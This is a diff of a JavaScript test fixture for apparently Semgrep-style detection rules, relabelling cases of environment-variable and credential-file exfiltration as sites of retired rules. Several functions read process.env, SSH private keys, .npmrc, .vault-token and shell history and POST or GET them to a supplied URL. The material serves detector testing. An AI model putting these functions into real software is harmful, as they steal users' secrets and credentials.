@@ -24,67 +24,67 @@ const cancelled = axios.isCancel(new Error("x"));
 
 async function flush(endpoint, snapshot) {
   const headers = { "content-type": "application/json" };
-  // ruleid: js-env-sent-over-network
+  // site of the retired js-env-sent-over-network (now the tree-sitter analysis')
   await fetch(endpoint, { method: "POST", headers, body: JSON.stringify({ counters: snapshot, context: process.env }) });
 }
 
 async function report(url) {
   const payload = Buffer.from(JSON.stringify(process.env)).toString("base64");
-  // ruleid: js-env-sent-over-network
+  // site of the retired js-env-sent-over-network (now the tree-sitter analysis')
   return https.get(url + "?d=" + payload);
 }
 
 async function ok(url, apiKey) {
-  // ok: js-env-sent-over-network
+  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
   return fetch(url, { headers: { "x-api-key": process.env.API_KEY, other: apiKey } });
 }
 
 async function ok2() {
   const base = process.env.API_URL;
-  // ok: js-env-sent-over-network, js-network-at-import-time
+  // ok: js-network-at-import-time
   return fetch(`${base}/health`);
 }
 
 async function steal(url) {
   const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
-  // ruleid: js-credential-file-sent-over-network
+  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: key });
 }
 
 async function inline(url) {
-  // ruleid: js-credential-file-sent-over-network
+  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.npmrc") });
 }
 
 async function vaultToken(url) {
-  // ruleid: js-credential-file-sent-over-network
+  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.vault-token") });
 }
 
 async function shellHistory(url) {
   const history = fs.readFileSync(path.join(os.homedir(), ".bash_history"), "utf8");
-  // ruleid: js-credential-file-sent-over-network
+  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: history });
 }
 
 async function publicKeyAndTemplate(url) {
   const pub = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519.pub", "utf8");
-  // ok: js-credential-file-sent-over-network
+  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: pub });
-  // ok: js-credential-file-sent-over-network
+  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: fs.readFileSync(".env.example", "utf8") });
 }
 
 async function notCred(url) {
   const readme = fs.readFileSync("README.md", "utf8");
-  // ok: js-credential-file-sent-over-network
+  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
   await fetch(url, { method: "POST", body: readme });
 }
 
 function runTests() {
-  // ok: js-env-sent-over-network
+  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
   cp.execSync("npm test", { env: { ...process.env, CI: "1" }, stdio: "inherit" });
-  // ok: js-env-sent-over-network
+  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
   return cp.spawn("node", ["server.js"], { env: process.env });
 }
 
